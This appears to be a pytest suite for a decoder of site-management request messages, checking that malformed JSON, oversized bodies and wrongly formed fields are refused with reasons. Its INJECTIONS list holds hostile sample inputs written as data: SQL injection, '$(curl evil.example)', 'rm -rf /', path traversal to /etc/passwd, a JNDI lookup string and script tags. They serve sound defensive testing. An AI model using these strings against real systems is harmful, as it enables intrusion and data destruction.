"""Whatever is wrong with a body, it is refused with a reason, and with nothing else."""

import copy
import json
import random

import pytest

from events.decode import MAX_BODY_BYTES, decode
from events.json_text import shown
from events.refusals import DecodeError
from events.requests import encode
from events.sample_messages import encode_sample, sample_event, sample_poll
from events.vocabulary import DetailType, MessageType


def refused(body) -> DecodeError:
    with pytest.raises(DecodeError) as caught:
        decode(body if isinstance(body, str) else json.dumps(body))
    return caught.value


def sample(kind: MessageType) -> dict:
    return json.loads(encode_sample(kind))


def told(error: DecodeError) -> dict[str, str]:
    return {one.field: one.problem for one in error.field_errors}


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("", "it is not JSON"),
        ("hello", "it is not JSON"),
        ('{"messageType": "SITE', "it is not JSON"),
        ("\ufeff{}", "it is not JSON"),
        ("{}{}", "it is not JSON"),
        ("null", "not an object but null"),
        ("3", "not an object but 3"),
        ("[]", "not an object but a list of 0"),
        ("NaN", "NaN, which JSON does not have"),
        ('{"a": -Infinity}', "-Infinity, which JSON does not have"),
        ('{"a": 1e999}', "a number too large"),
        ('{"a": ' + "9" * 5000 + "}", "more than 64 bits"),
        ('{"a": 9223372036854775808}', "more than 64 bits"),
        ('{"a": 1, "a": 2}', "the same key twice"),
        ('{"b": {"a": 1, "a": 1}}', "the same key twice"),
        ('{"a": "\\ud800"}', "half of a surrogate pair"),
        ('{"\\udfff": 1}', "half of a surrogate pair"),
        ('{"a": "\ud800"}', "half of a surrogate pair"),
        ("[" * 200_000, "more than 32 deep"),
        ('{"a":' * 33 + "1" + "}" * 33, "more than 32 deep"),
        ("[" * 33 + "]" * 33, "more than 32 deep"),
    ],
    ids=range(21),
)
def test_a_body_that_is_not_clear_json_is_refused_with_its_own_reason(body, reason):
    error = refused(body)

    assert reason in error.reason
    assert error.raw_body == body
    assert not error.oversized


def test_a_body_as_deep_as_allowed_is_read():
    assert "no known kind" in refused('{"a":' * 31 + "[]" + "}" * 31).reason


def test_a_body_that_is_no_text_is_refused():
    with pytest.raises(DecodeError, match="not a text"):
        decode(None)  # type: ignore[arg-type]


def test_a_mebibyte_of_noise_is_refused_for_its_size():
    noise = "".join(random.Random(7).choices([*map(chr, range(32, 0x500))], k=1_048_576))

    error = refused(noise)

    assert error.oversized
    assert f"at most {MAX_BODY_BYTES}" in error.reason


def test_the_size_limit_counts_bytes_and_is_exact():
    body = sample(MessageType.SITE_PROMOTION_REQUEST)
    room = MAX_BODY_BYTES - len(json.dumps({**body, "note": ""}).encode())

    assert decode(json.dumps({**body, "note": "x" * room}))
    assert refused({**body, "note": "x" * (room + 1)}).oversized
    wide = json.dumps({**body, "note": "é" * room}, ensure_ascii=False)
    assert len(wide) <= MAX_BODY_BYTES
    assert refused(wide).oversized


def test_an_oversized_request_still_tells_who_sent_it():
    body = {**sample(MessageType.SITE_PROMOTION_REQUEST), "note": "x" * MAX_BODY_BYTES}

    hints = refused(body).hints

    assert (hints.message_type, hints.tenant_id) == ("SITE_PROMOTION_REQUEST", "tenant-1")


@pytest.mark.parametrize(
    ("message_type", "got"),
    [("SITE_EXPLOSION_REQUEST", '"SITE_EXPLOSION_REQUEST"'), (7, "7"), (None, "null"), ([], None)],
)
def test_an_unknown_message_type_is_named(message_type, got):
    (error,) = refused({"messageType": message_type}).field_errors

    assert error.field == "messageType"
    assert error.got == (got or "a list of 0")


def test_a_body_of_no_kind_says_what_is_missing():
    assert told(refused({"hello": "world"})) == {"messageType": "is missing"}


def test_an_unknown_event_of_ours_is_refused():
    event = {"source": "bbws.sites", "detail-type": "SiteOperationVanished", "detail": {}}

    assert list(told(refused(event))) == ["detail-type"]


@pytest.mark.parametrize("detail", [None, "text", []])
def test_an_event_without_an_object_as_detail_is_refused(detail):
    event = {"source": "bbws.sites", "detail-type": "SiteStepCompleted", "detail": detail}

    assert told(refused(event)) == {"detail": "must be an object"}


@pytest.mark.parametrize("kind", MessageType)
def test_each_field_of_the_envelope_and_the_payload_is_missed_by_name(kind):
    body = sample(kind)
    required = {"correlationId": "correlationId", "timestamp": "timestamp", "payload": "payload"}
    for name in ("siteId", "tenantId", "reason", "role", "planHash", "proof", "changes"):
        if name in body["payload"] and (name, kind) != ("proof", "PROMOTION_ROLLBACK_REQUEST"):
            required[name] = f"payload.{name}"

    for name, path in required.items():
        broken = sample(kind)
        place = broken if name in broken else broken["payload"]
        del place[name]
        assert told(refused(broken)) == {path: "is missing"}, name


@pytest.mark.parametrize("wrong", [None, 7, True, [], {}, "text", 1.5])
@pytest.mark.parametrize("kind", MessageType)
def test_a_payload_of_the_wrong_type_is_refused(kind, wrong):
    error = refused({**sample(kind), "payload": wrong})

    assert all(field.startswith("payload") for field in told(error))
    assert error.field_errors


@pytest.mark.parametrize("wrong", [7, True, [], {}, 1.5, None])
@pytest.mark.parametrize("field", ["correlationId", "timestamp", "schemaVersion"])
def test_an_envelope_field_of_the_wrong_type_is_refused_on_that_field(field, wrong):
    body = {**sample(MessageType.SITE_DELETION_REQUEST), field: wrong}

    assert list(told(refused(body))) == [field]


@pytest.mark.parametrize(
    "tenant",
    ["Tenant-1", "-tenant", "t", "tenant_1", "tenant 1", "tenant-1\n", "../x", "t" * 64, "ténant"],
)
def test_a_tenant_of_the_wrong_form_is_refused_and_not_taken_as_a_hint(tenant):
    body = sample(MessageType.SITE_DELETION_REQUEST)
    body["payload"]["tenantId"] = tenant

    error = refused(body)

    assert list(told(error)) == ["payload.tenantId"]
    assert error.field_errors[0].got == shown(tenant)
    assert error.hints.tenant_id is None
    assert error.hints.site_id == body["payload"]["siteId"]


@pytest.mark.parametrize(
    "time",
    [
        "2026-11-21",
        "2026-11-21T07:30:00",
        "1763710200",
        1763710200,
        "2026-13-21T07:30:00Z",
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "21 November 2026",
        "2026-11-21T07:30:00Z\n",
    ],
)
def test_a_time_that_is_not_rfc_3339_is_refused(time):
    body = {**sample(MessageType.SITE_DELETION_REQUEST), "timestamp": time}

    assert list(told(refused(body))) == ["timestamp"]


INJECTIONS = (
    "x'; DROP TABLE wp_users; --",
    'x" OR "1"="1',
    "$(curl evil.example)",
    "`id`",
    "a; rm -rf /",
    "a && reboot",
    "a | tee x",
    "../../etc/passwd",
    "--output=/etc/cron.d/x",
    "a\nb",
    "a\x00b",
    "%27%20OR%201",
    "<script>",
    "${jndi:ldap://x}",
    "\u202egnp.exe",
)
FREE_TEXTS = {"reason", "comment", "siteName"}
"""Texts for people: quotes are part of a name like Jane's Bakery. Never in a command."""
OPEN_DATA = {"configure"}
"""Values of plugin options are the customer's data and travel as JSON."""


def places(value, path=()):
    if isinstance(value, dict):
        for name, part in value.items():
            if name not in OPEN_DATA and path[-1:] != ("proof",):
                yield from places(part, (*path, name))
    elif isinstance(value, list):
        for index, part in enumerate(value):
            yield from places(part, (*path, index))
    elif isinstance(value, str):
        yield path


def full(kind: MessageType) -> dict:
    """The sample with every optional text field given as well."""
    body = sample(kind) | {"idempotencyKey": "key-1", "requestedBy": "jane"}
    extra = {
        "SITE_CREATION_REQUEST": {"cloneFrom": "site-2"},
        "SITE_UPDATE_REQUEST": {"override": {"reason": "Urgent."}, "changes": FULL_CHANGES},
        "SITE_PROMOTION_REQUEST": {
            "emergency": {"incidentId": "INC1"},
            "selection": {"database": ["wp_posts"], "content": ["uploads/2026"]},
            "protect": {"tables": ["wp_users"], "options": ["blogname"], "folders": ["uploads"]},
        },
        "PROMOTION_ROLLBACK_REQUEST": {"siteId": "site-1", "tenantId": "tenant-1"},
    }
    body["payload"] |= copy.deepcopy(extra.get(kind, {}))
    return body


FULL_CHANGES = {
    "configuration": {"wordpressVersion": "6.5", "phpVersion": "8.2", "theme": "astra"},
    "domain": "www.example.com",
    "templateId": "bakery-1",
    "theme": "astra",
    "imageTag": "6.5-php8.2",
    "status": "SUSPENDED",
    "plugins": {
        "install": ["a", {"slug": "b", "version": "1.0"}],
        "update": ["c"],
        "enable": ["d"],
        "disable": ["e"],
        "uninstall": ["f"],
    },
}
INJECTABLE = [
    (kind, path) for kind in MessageType for path in places(full(kind)) if path[-1] != "messageType"
]


@pytest.mark.parametrize(
    ("kind", "path"),
    INJECTABLE,
    ids=[f"{kind}-{'.'.join(map(str, path))}" for kind, path in INJECTABLE],
)
def test_no_text_field_lets_a_statement_or_command_through(kind, path):
    assert decode(json.dumps(full(kind)))
    for attack in INJECTIONS:
        body = full(kind)
        place = body
        for step in path[:-1]:
            place = place[step]
        place[path[-1]] = attack
        if path[-1] in FREE_TEXTS:
            continue
        error = refused(body)
        assert attack not in "".join(one.field for one in error.field_errors)


@pytest.mark.parametrize("attack", ["", "   ", "a\x00b", "a\x1b[2Jb", "\u202egnp", "a\x85b"])
@pytest.mark.parametrize(
    ("kind", "field", "limit"),
    [
        (MessageType.SITE_CREATION_REQUEST, "siteName", 200),
        (MessageType.SITE_DELETION_REQUEST, "reason", 1000),
        (MessageType.OPERATION_APPROVAL, "comment", 1000),
    ],
)
def test_a_text_for_people_is_short_and_holds_no_hidden_characters(kind, field, limit, attack):
    body = sample(kind)
    for good in ("Jane's Bakery & Söhne", "x" * limit):
        body["payload"][field] = good
        assert encode(decode(json.dumps(body))).count(good) == 1
    for bad in (attack, "x" * (limit + 1)):
        body["payload"][field] = bad
        assert list(told(refused(body))) == [f"payload.{field}"]


def test_a_site_name_is_one_line_but_a_reason_may_have_several():
    creation = sample(MessageType.SITE_CREATION_REQUEST)
    creation["payload"]["siteName"] = "a\nb"
    deletion = sample(MessageType.SITE_DELETION_REQUEST)
    deletion["payload"]["reason"] = "a\nb"

    assert list(told(refused(creation))) == ["payload.siteName"]
    assert decode(json.dumps(deletion)).payload.reason == "a\nb"


@pytest.mark.parametrize(
    "change",
    [
        {"operationId": "not-a-uuid"},
        {"eventId": None},
        {"waitNumber": -1},
        {"waitNumber": "3"},
        {"waitNumber": True},
    ],
)
def test_a_poll_with_a_wrong_field_is_refused_on_it(change):
    body = {**json.loads(sample_poll().queue_body()), **change}

    assert list(told(refused(body))) == list(change)


def test_an_event_with_wrong_metadata_is_refused_on_its_fields():
    body = json.loads(sample_event(DetailType.STEP_FAILED).queue_body())
    body["detail"]["metadata"] |= {"phase": "sideways", "attempt": "1", "step": "a/b"}
    body["detail"]["data"]["error"]["code"] = "SITE_999"

    assert set(told(refused(body))) == {
        "metadata.phase",
        "metadata.attempt",
        "metadata.step",
        "data.error.code",
    }


def test_the_error_is_a_sentence_and_lists_at_most_twenty_fields():
    body = sample(MessageType.SITE_PROMOTION_REQUEST)
    body["payload"]["selection"] = {"database": ["a b"] * 50}

    error = refused(body)

    assert len(error.field_errors) == 20
    assert str(error).startswith(
        "the message is not valid: payload.selection.database[0] does not have the form"
    )
